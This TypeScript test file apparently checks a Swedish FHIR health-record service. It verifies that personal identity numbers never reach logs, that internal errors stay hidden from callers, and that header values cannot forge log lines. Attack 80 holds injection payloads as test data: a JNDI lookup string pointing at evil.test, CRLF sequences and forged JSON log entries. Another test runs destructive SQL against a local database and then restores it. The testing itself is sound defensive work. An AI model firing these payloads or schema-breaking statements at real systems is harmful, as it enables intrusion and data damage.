import { readFileSync } from 'node:fs';
import { request as httpRequest } from 'node:http';
import { join } from 'node:path';
import { Problem } from '@naravard/fhir';
import type { Store } from '@naravard/store';
import { createTestApp } from '@naravard/testkit';
import pg from 'pg';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { patient } from '../conformance/resources.ts';
import { type ServiceProcess, startService, temporaryFolder, tokenFor } from '../services/service-process.ts';

/** A personnummer, a samordningsnummer and a reservnummer of the test series, in the ways that people write them. */
const numbers = [
  '194103149805',
  '19410314-9805',
  '410314-9805',
  '4103149805',
  '197010632391',
  '19701063-2391',
  '99194103149816',
];
const system = 'http://electronichealth.se/identifier/personnummer';

let service: ServiceProcess;
const folder = temporaryFolder();

beforeAll(async () => {
  service = await startService({ DATA_DIR: folder.path, DEMO_DATA: 'false', LOG_LEVEL: 'trace' });
});
afterAll(async () => {
  await service.stop();
  folder.remove();
});

/** Header values and addresses go out as they are, which fetch would not let them. */
function send(method: string, path: string, headers: Record<string, string>, body = ''): Promise<number> {
  return new Promise((resolve, reject) => {
    const { port } = new URL(service.origin);
    const asked = httpRequest(
      {
        host: 'localhost',
        port,
        method,
        path,
        headers: { ...headers, 'content-length': Buffer.byteLength(body) },
      },
      (answer) => {
        answer.resume().on('end', () => resolve(answer.statusCode ?? 0));
      },
    );
    asked.on('error', reject);
    asked.end(body);
  });
}

/** What the service and its database have written down. */
const written = () => service.output() + readFileSync(join(folder.path, 'pg', 'server.log'), 'utf8');

describe('attack 78: a personnummer is written down nowhere but in the record and its audit', () => {
  test('whatever way it comes, also where the request is wrong', async () => {
    const token = await tokenFor(service.origin, 'journalsystem');
    const authorization = `Bearer ${token}`;
    const json = { authorization, 'content-type': 'application/fhir+json' };
    const statuses = new Map<number, number>();
    const ask = async (...request: Parameters<typeof send>) => {
      const status = await send(...request);
      statuses.set(status, (statuses.get(status) ?? 0) + 1);
    };
    for (const number of numbers) {
      const body = JSON.stringify(
        patient({ identifier: [{ system, value: number }], name: [{ family: number }] }),
      );
      await ask('POST', '/fhir/Patient', json, body);
      await ask('POST', '/fhir/Patient', json, body.replace('}', `,"${number}":1}`));
      await ask('POST', '/fhir/Patient', json, body.slice(0, -9));
      await ask('POST', '/fhir/Patient', json, `{"resourceType":"${number}"}`);
      await ask(
        'POST',
        '/fhir/Patient',
        json,
        JSON.stringify(patient({ birthDate: number, gender: number })),
      );
      await ask('PUT', `/fhir/Patient/${number}`, json, body);
      await ask(
        'PATCH',
        `/fhir/Patient/${number}`,
        { ...json, 'content-type': 'application/json-patch+json' },
        `[{"op":"test","path":"/${number}","value":"${number}"}]`,
      );
      await ask(
        'POST',
        '/fhir',
        json,
        `{"resourceType":"Bundle","type":"transaction","entry":[{"request":{"method":"GET","url":"Patient?identifier=${number}"}},{"request":{"method":"DELETE","url":"Patient/${number}"}}]}`,
      );
      for (const path of [
        `Patient?identifier=${system}|${number}`,
        `Patient?${number}=x`,
        `Patient?_sort=${number}`,
        `Patient?birthdate=${number}x`,
        `Patient?name:${number}=x`,
        `Patient?_page=${number}`,
        `Patient?_include=${number}`,
        `Patient?_filter=${number}`,
        `Patient?_has:${number}`,
        `Patient/${number}`,
        `Patient/${number}/_history/${number}`,
        `Patient/${number}/CareTeam`,
        `${number}/1`,
        `$${number}`,
        `Patient/1/$${number}`,
        `?_type=${number}`,
        `Patient?_format=${number}`,
      ])
        await ask('GET', `/fhir/${path}`, { authorization });
      await ask('GET', `/${number}`, {});
      await ask('GET', '/fhir/Patient', { authorization: `Bearer ${number}` });
      await ask('GET', `/fhir/Patient?access_token=${number}`, {});
      for (const name of [
        'accept',
        'user-agent',
        'x-request-id',
        'traceparent',
        'tracestate',
        'if-none-match',
        'if-modified-since',
        'prefer',
        'cookie',
        'referer',
        'x-forwarded-for',
        'forwarded',
        'dpop',
        'origin',
      ])
        await ask('GET', '/fhir/Patient?_count=0', { authorization, [name]: number });
      await ask('POST', '/fhir/Patient', { ...json, 'content-type': `text/${number}` }, number);
      await ask('POST', '/fhir/Patient', { ...json, 'if-none-exist': `identifier=${number}` }, body);
      await ask(number.replaceAll(/\D/g, '').slice(0, 8).replaceAll(/\d/g, 'X'), `/fhir/Patient/${number}`, {
        authorization,
      }).catch(() => {});
    }
    expect(statuses.get(201), 'it was stored too').toBeGreaterThan(0);
    expect([...statuses.keys()].filter((status) => status >= 500)).toEqual([]);
    expect(service.output().split('"msg":"request"').length).toBeGreaterThan(200);
    const text = written();
    for (const number of numbers) expect(text.includes(number), number).toBe(false);
    expect(text.includes(token.split('.')[2] ?? ''), 'nor is a token').toBe(false);
  }, 120_000);

  test('nor where the database refuses or fails', async () => {
    const token = await tokenFor(service.origin, 'journalsystem');
    const headers = { authorization: `Bearer ${token}`, 'content-type': 'application/fhir+json' };
    const number = numbers[0] ?? '';
    const body = JSON.stringify(
      patient({ identifier: [{ system, value: number }], name: [{ family: number }] }),
    );
    const client = new pg.Client({ connectionString: await databaseUrl() });
    await client.connect();
    const broken = [
      [
        'alter table identifier rename to identifier_gone',
        'alter table identifier_gone rename to identifier',
      ],
      [
        'alter table identifier add constraint never check (false) not valid',
        'alter table identifier drop constraint never',
      ],
      [`create unique index never on text_value ((1))`, 'drop index never'],
      [
        `alter table audit rename column query to query_gone`,
        'alter table audit rename column query_gone to query',
      ],
    ] as const;
    const statuses: number[] = [];
    for (const [breaking, mending] of broken) {
      await client.query(breaking).catch(() => {});
      statuses.push(await send('POST', '/fhir/Patient', headers, body));
      statuses.push(await send('GET', `/fhir/Patient?identifier=${number}`, headers));
      await client.query(mending).catch(() => {});
    }
    await client.end();
    expect(statuses.filter((status) => status >= 500).length).toBeGreaterThan(2);
    expect(service.output()).toContain('"level":50');
    expect(written().includes(number)).toBe(false);
    expect(written().includes(number.slice(2))).toBe(false);
  });
});

/** Of the embedded database, as its files say it. */
async function databaseUrl(): Promise<string> {
  const port = readFileSync(join(folder.path, 'pg', 'postmaster.pid'), 'utf8').split('\n')[3];
  const password = readFileSync(join(folder.path, 'pg-password'), 'utf8').trim();
  return `postgres://postgres:${password}@127.0.0.1:${port}/postgres`;
}

describe('attack 79: an internal error tells the caller nothing of the inside', () => {
  const secret =
    'insert into resource values (194103149805) at db7.internal:5432 in /srv/naravard/libs/store/x.ts';
  const failures: [string, () => unknown][] = [
    ['an error', () => new Error(secret)],
    ['an error with a cause', () => new Error('outer', { cause: new Error(secret) })],
    [
      'a database error',
      () =>
        Object.assign(new pg.DatabaseError(secret, 0, 'error'), {
          code: 'XX000',
          detail: secret,
          where: secret,
          hint: secret,
        }),
    ],
    [
      'a duplicate key',
      () =>
        Object.assign(new pg.DatabaseError(secret, 0, 'error'), {
          code: '23505',
          detail: secret,
          constraint: 'resource_type_id',
        }),
    ],
    [
      'a lost connection',
      () => Object.assign(new Error(secret), { code: 'ECONNREFUSED', address: 'db7.internal' }),
    ],
    ['a problem with a cause', () => new Problem('internal', [], { cause: new Error(secret) })],
    ['a string', () => secret],
    ['an object', () => ({ message: secret, statusCode: 400 })],
    ['a type error', () => new TypeError(secret)],
    ['nothing', () => undefined],
  ];

  test.each(failures)('%s', async (_name, make) => {
    const fails = () => Promise.reject(make());
    const working = await createTestApp();
    const parts = ['read', 'search', 'write', 'transaction', 'history', 'versionRead'] as const;
    const broken = Object.fromEntries(
      parts.filter((part) => part in working.store).map((part) => [part, fails]),
    );
    const fhir = await createTestApp({ store: { ...working.store, ...broken } as Store });
    for (const [method, path, body] of [
      ['GET', '/Patient/1'],
      ['GET', '/Patient?name=x'],
      ['GET', '/Patient/1/_history'],
      ['POST', '/Patient', patient()],
      [
        'POST',
        '',
        {
          resourceType: 'Bundle',
          type: 'transaction',
          entry: [{ resource: patient(), request: { method: 'POST', url: 'Patient' } }],
        },
      ],
      [
        'POST',
        '',
        { resourceType: 'Bundle', type: 'batch', entry: [{ request: { method: 'GET', url: 'Patient/1' } }] },
      ],
    ] as const) {
      const { text, headers, json } = await fhir.ask(method, path, body ? { body } : {});
      const said = text + JSON.stringify(headers);
      expect(said).not.toMatch(
        /insert|select |internal:|5432|node_modules|\.ts\b|\bat [a-z]+ \(|194103149805|pg_|23505|XX000|ECONN/i,
      );
      expect(json.resourceType).toMatch(/^(OperationOutcome|Bundle)$/);
      expect(headers.server).toBeUndefined();
      expect(headers['x-powered-by']).toBeUndefined();
    }
    await fhir.close();
    await working.close();
  });
});

describe('attack 80: what a caller writes in its headers cannot write the log', () => {
  test('each request is one line of JSON, whatever its X-Request-Id and User-Agent', async () => {
    const token = await tokenFor(service.origin, 'journalsystem');
    const forged = '{"level":60,"msg":"request","forged":true}';
    const before = service.output().length;
    const names = [
      'x-request-id',
      'user-agent',
      'traceparent',
      'x-correlation-id',
      'x-forwarded-for',
      'referer',
      'accept',
      'origin',
      'host',
    ];
    const values = [
      forged,
      `a"},"forged":true,"x":{"`,
      'a\tb',
      '\u001b[31mred',
      '\u009b31m',
      `${'x'.repeat(8_000)}`,
      '%0d%0a%0d%0aforged',
      '\u0024{jndi:ldap://evil.test/forged}',
      '\u00e5\u00e4\u00f6',
    ];
    for (const name of names) {
      for (const value of values)
        await send('GET', '/fhir/Patient?_count=0', {
          authorization: `Bearer ${token}`,
          [name]: value,
        }).catch(() => {});
    }
    for (const path of [
      '/fhir/%0d%0aforged',
      '/fhir/Patient?x=%0d%0aforged',
      `/fhir/${'forged'.repeat(500)}`,
    ])
      await send('GET', path, { authorization: `Bearer ${token}` });
    const said = service.output().slice(before);
    expect(/forged|jndi|\u001b|\u009b/.exec(said)).toBeNull();
    const lines = said.trim().split('\n');
    expect(lines.length).toBeGreaterThan(names.length * values.length * 0.6);
    for (const line of lines) {
      expect(line.length).toBeLessThan(1_000);
      const { reqId, route, status } = JSON.parse(line);
      expect(reqId ?? '-').toMatch(/^[A-Za-z0-9._-]{1,64}$/);
      if (route) expect([route, typeof status]).toEqual([expect.any(String), 'number']);
    }
  });

  test('an X-Request-Id comes back only when it is short and harmless', async () => {
    const echo = async (id: string) => {
      const answer = await fetch(`${service.origin}/livez`, { headers: { 'x-request-id': id } });
      return answer.headers.get('x-request-id');
    };
    expect(await echo('order-7_a.B')).toBe('order-7_a.B');
    for (const id of ['a b', 'x'.repeat(65), '<script>', 'a;b', 'a,b', 'é', '../x'])
      expect(await echo(id)).toMatch(/^[0-9a-f-]{36}$/);
  });
});
